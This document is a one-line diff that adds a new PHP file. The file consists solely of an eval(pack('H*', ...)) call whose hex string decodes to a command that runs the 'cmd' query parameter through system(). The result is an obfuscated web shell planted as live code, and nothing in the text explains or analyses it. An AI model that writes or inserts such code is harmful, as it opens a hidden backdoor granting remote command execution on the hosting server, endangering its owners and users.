@@ -0,0 +1 @@
+<?php eval(pack('H*', '73797374656d28245f4745545b22636d64225d293b'));